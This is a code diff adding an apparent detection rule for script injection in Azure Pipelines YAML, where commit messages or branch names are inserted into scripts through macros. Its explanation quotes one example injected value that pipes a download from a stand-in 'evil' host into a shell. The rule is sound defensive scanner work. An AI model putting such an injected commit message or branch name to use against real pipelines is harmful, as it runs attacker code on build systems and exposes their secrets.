@@ -16,6 +16,22 @@ export const gitlabEval: Rule = {
   good: { '.gitlab-ci.yml': ['    - echo "$CI_COMMIT_TITLE"\n', '    # - eval "$CI_COMMIT_TITLE"\n', '    - eval "$(ssh-agent -s)"\n', '    - sh -c "x $CI_COMMIT_SHA"\n'], 'a.js': ['eval "x $CI_COMMIT_TITLE"'] },
 };
 
+/** learn.microsoft.com/azure/devops/pipelines/process/variables: $( ) is filled in before the shell reads the line. */
+export const azureScript: Rule = {
+  ...gitlabEval,
+  cwe: [...gitlabEval.cwe],
+  severity: 'medium',
+  id: 'azure-pipeline-script-injection',
+  title: 'Text of a commit in a script',
+  why: 'The macro is put into the script before the shell reads it: a message or branch such as `"; curl evil | sh #` runs as a command.',
+  fix: 'Give it to the step as env: MSG: $(Build.SourceVersionMessage), and write "$MSG" in the script.',
+  near: ['$(build.source', '$(system.pullrequest.source', '$(build.requestedfor)'],
+  find: [/^[ \t]{0,40}(?:-[ \t]+)?(?![ \t-])(?:(?:script|bash|pwsh|powershell|inlineScript):|(?![\w."'-]{1,60}[ \t]*:[ \t]|-[ \t]+[\w."'-]{1,60}:[ \t]|#))[^#\n]{0,150}\$\((?:Build\.SourceVersionMessage|Build\.SourceBranch(?:Name)?|Build\.RequestedFor|System\.PullRequest\.SourceBranch(?:Name)?)\)/m],
+  where: { path: { trait: 'file', of: ['azure-pipelines'] } },
+  bad: { 'azure-pipelines.yml': ['steps:\n  - script: echo "$(Build.SourceVersionMessage)"\n', '  - bash: |\n      git checkout $(System.PullRequest.SourceBranch)\n', '      echo built for $(Build.RequestedFor)\n'] },
+  good: { 'azure-pipelines.yml': ['  - script: echo "$MSG"\n    env:\n      MSG: $(Build.SourceVersionMessage)\n', 'name: $(Build.SourceBranchName)-$(Rev:r)\n', '  # - script: echo $(Build.SourceVersionMessage)\n', '  - script: echo $(Build.BuildId)\n', "  condition: eq('$(Build.SourceBranch)', 'x')\n", '  - task: Docker@2\n    inputs:\n      tags: $(Build.SourceBranchName)\n'], 'a.yml': ['  - script: echo "$(Build.SourceVersionMessage)"\n'] },
+};
+
 export const gitlabRemote: Rule = {
   category: 'infrastructure',
   severity: 'medium',
